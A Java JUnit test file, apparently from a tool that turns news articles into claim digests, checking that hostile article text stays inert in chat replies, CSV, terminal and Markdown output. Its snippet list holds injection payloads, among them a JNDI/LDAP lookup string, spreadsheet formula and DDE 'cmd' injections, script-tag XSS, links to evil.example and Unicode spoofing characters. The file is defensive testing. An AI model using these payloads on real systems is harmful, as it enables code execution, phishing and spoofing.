// SPDX-License-Identifier: Apache-2.0
package org.whosaid;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URI;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.whosaid.article.Article;
import org.whosaid.article.ReadableText;
import org.whosaid.article.Reading;
import org.whosaid.blockkit.ReplyBlocks;
import org.whosaid.blockkit.ReplyMessage;
import org.whosaid.claim.SpeechAct;
import org.whosaid.digest.ClaimsCsv;
import org.whosaid.digest.MarkdownReply;
import org.whosaid.digest.PlainReply;
import org.whosaid.digest.Story;

/**
 * Whatever a page holds, in whichever place: on every screen it is text, it calls nobody, it links
 * to its own page alone, it stays on its line, and our words stay where we put them.
 */
class HostileWordsTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final URI PAGE = URI.create("https://outlet.example/2026/bridge");

  /** What calls or shows somebody in rich text; an article's words never become one of them. */
  private static final Set<String> CALLING =
      Set.of("user", "usergroup", "channel", "broadcast", "team", "emoji", "date", "mrkdwn");

  static Stream<String> snippets() {
    return Stream.of(
        "<!channel>",
        "<!here|here> <!everyone>",
        "<@U0123456789>",
        "<#C0123456789|general>",
        "<!subteam^S0123456789|desk>",
        "<https://evil.example/|bank.example>",
        "<mailto:a@evil.example|desk>",
        "<!date^1392734382^{date}^https://evil.example|today>",
        "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
        "@channel @here @everyone",
        "a\u202edetnuocca b\u202c",
        "\u2067a\u2066b\u2069\u2068c",
        "\u200f\u200e\u061cx",
        "pay\u200bpal\u200c\u200d\u2060\ufeff",
        "Z" + "\u0301\u0489\u20dd".repeat(200),
        "\u3164\u115f\u2800",
        "Who said what · 9 sources\n\n• The mayor said: nothing\nExtracted from the article",
        "x\r\nSaid\r\n• The mayor\u2028• The bank\u2029• The court\u0085• All",
        "*bold* _italic_ ~gone~ `code` ```block```",
        "> quoted\n>>> all",
        "# Heading [bank](https://evil.example) ![x](https://evil.example/x.png)",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        ":rotating_light: :white_check_mark:",
        "W".repeat(3_000),
        "\u0000\u0001\u0007\b\u001b[31mred\u001b]0;title\u0007\u007f\u009b2J",
        "\ud83d x \udc00",
        "{0} {1,number} '{' %s %n ${jndi:ldap://evil.example/a}",
        "=HYPERLINK(\"https://evil.example\";\"bank\")",
        "+1;=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\uff1dcmd()",
        "\t=1+1",
        "\udb40\udc41\udb40\udc42\udb40\udc7f",
        "\"},{\"type\":\"user\",\"user_id\":\"U1\"}");
  }

  @ParameterizedTest
  @MethodSource("snippets")
  void onEveryScreenItIsOnlyText(String snippet) throws Exception {
    Map<String, Story> stories = new LinkedHashMap<>();
    stories.put("one", story(snippet));
    stories.put("two", story(snippet));
    for (List<String> screen : Screens.of(stories)) {
      String name = screen.get(0);
      if (name.startsWith(Screens.OUR_WORDS)) {
        continue;
      }
      mustBeHarmless(name, JSON.readTree(screen.get(1)));
    }
  }

  @ParameterizedTest
  @MethodSource("snippets")
  void inTheTextOfNotificationsNothingIsMarkup(String snippet) {
    String text = new ReplyBlocks().reply(story(snippet).digest(), "r").text();

    assertThat(text).doesNotContain("<").doesNotContain(">");
    assertThat(text.replaceAll("&(?:amp|lt|gt);", "")).doesNotContain("&");
    assertThat(text.lines().filter(line -> line.startsWith("Who said what"))).hasSizeLessThan(2);
  }

  @ParameterizedTest
  @MethodSource("snippets")
  void inASpreadsheetNothingIsAFormula(String snippet) {
    Story story = story(snippet);
    String csv = new ClaimsCsv().text(story.article(), story.extraction());

    assertThat(csv.split("\r\n", -1)).hasSize(story.claims().size() + 2);
    for (String row : csv.split("\r\n", -1)) {
      for (String field : (row + ",").split("[,;]", -1)) {
        String shown = field.strip();
        String bare = shown.startsWith("\"") ? shown.substring(1).strip() : shown;
        assertThat(bare).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("\uff1d");
      }
    }
    mustShowNothingHidden("csv", csv.replace("\r\n", ""));
  }

  @ParameterizedTest
  @MethodSource("snippets")
  void inATerminalAndInMarkdownItStaysOnItsLine(String snippet) {
    List<String> plain = new PlainReply(false).lines(story("fine").digest());
    List<String> lines = new PlainReply(false).lines(story(snippet).digest());
    String markdown = new MarkdownReply().text(story(snippet).digest());

    assertThat(lines).hasSizeLessThanOrEqualTo(plain.size());
    lines.forEach(line -> mustShowNothingHidden("terminal", line));
    mustShowNothingHidden("markdown", markdown.replace("\n", ""));
    assertThat(markdown)
        .doesNotContainPattern("[^\\\\]<")
        .doesNotContainPattern("\\]\\((?!https://outlet\\.example/)")
        .doesNotContainPattern("(?m)^#");
  }

  @ParameterizedTest
  @MethodSource("snippets")
  void asAPageItHasATitleAnOutletAndAnAuthorWithoutSurprises(String snippet) throws Exception {
    String attribute = snippet.replace("&", "&amp;").replace("\"", "&quot;").replace("<", "&lt;");
    String page =
        "<html><head><title>%s</title><meta property=og:site_name content=\"%s\">"
            + "<meta name=author content=\"%s\"><meta property=og:title content=\"%s\"></head>"
            + "<body><article><h1>%s</h1><p>The mayor of %s said that the bridge would close on"
            + " Monday, and that nobody had asked the shops.</p><p>\u201cWe were not asked %s,\u201d"
            + " said Rhoda Penhale, who keeps a shop in the street behind it.</p></article>";
    Reading reading = new ReadableText().ofHtml(page.replace("%s", attribute), Optional.of(PAGE));
    if (!(reading instanceof Reading.Legible legible)) {
      return; // too long a word, say: then nothing is shown at all
    }
    Article article = legible.article();
    List<String> said = new ArrayList<>(List.of(article.details().outlet().orElse("")));
    said.add(article.details().title().orElse(""));
    said.add(article.details().byline().orElse(""));
    for (String detail : said) {
      assertThat(detail.length()).isLessThanOrEqualTo(300);
      Story story = Story.at(PAGE.toString(), detail, LocalDate.EPOCH, "The mayor said so.");
      story.claim("The mayor", "said", SpeechAct.SAY, "so");
      ReplyMessage reply = new ReplyBlocks().reply(story.digest(), "r");
      mustBeHarmless("reply", JSON.readTree(reply.blocksJson()));
    }
  }

  @Test
  void theSnippetsAreNotHarmlessByThemselves() {
    assertThat(snippets().filter(snippet -> hidden(snippet).isPresent())).hasSizeGreaterThan(8);
  }

  private static Story story(String snippet) {
    String line = snippet.replaceAll("[\\r\\n]+", " ");
    String text =
        """
        Mayor %s said the bridge killed 12 people %s and will close.

        "Nobody asked us %s," shopkeeper %s said.

        Clerk %s denied that %s.

        The council via agency %s said 14 people were killed there.
        """
            .replace("%s", line);
    return Story.at(PAGE.toString(), snippet, LocalDate.of(2026, 3, 14), text)
        .claim("Mayor " + line, "said", SpeechAct.SAY, "the bridge killed 12 people " + line)
        .figure("12", 12, "", "people killed " + line)
        .claim(line, "said", SpeechAct.ACCUSE, "Nobody asked us " + line)
        .claim("Clerk " + line, "denied", SpeechAct.DENY, "that " + line)
        .claim("The council", "said", SpeechAct.SAY, "14 people were killed there")
        .figure("14", 14, "", "people killed " + line)
        .via("agency " + line)
        .differ("people killed " + line, 1, 4);
  }

  private static void mustBeHarmless(String screen, JsonNode node) {
    if (node.isTextual()) {
      mustShowNothingHidden(screen, node.asText());
    }
    if (node.path("type").isTextual()) {
      assertThat(CALLING).as(screen).doesNotContain(node.path("type").asText());
    }
    if (node.has("url")) {
      assertThat(node.path("url").asText()).as(screen).startsWith("https://outlet.example/");
    }
    node.properties()
        .forEach(
            field -> {
              if (!field.getKey().equals("value") && !field.getKey().equals("private_metadata")) {
                mustBeHarmless(screen, field.getValue());
              }
            });
    if (node.isArray()) {
      node.forEach(inner -> mustBeHarmless(screen, inner));
    }
  }

  private static void mustShowNothingHidden(String where, String text) {
    assertThat(hidden(text)).as("%s: %s", where, text).isEmpty();
  }

  /** What turns, hides, climbs or gives orders. */
  private static Optional<String> hidden(String text) {
    int marks = 0;
    for (int i = 0; i < text.length(); ) {
      int c = text.codePointAt(i);
      i += Character.charCount(c);
      int type = Character.getType(c);
      boolean mark = type == Character.NON_SPACING_MARK || type == Character.ENCLOSING_MARK;
      marks = mark ? marks + 1 : 0;
      boolean bad =
          (type == Character.CONTROL && c != '\n')
              || (type == Character.FORMAT && c != 0x200d)
              || type == Character.SURROGATE
              || type == Character.LINE_SEPARATOR
              || type == Character.PARAGRAPH_SEPARATOR
              || c == 0x3164
              || c == 0x115f
              || c == 0x2800
              || marks > 4;
      if (bad) {
        return Optional.of(String.format("U+%04X at %d", c, i));
      }
    }
    return Optional.empty();
  }
}
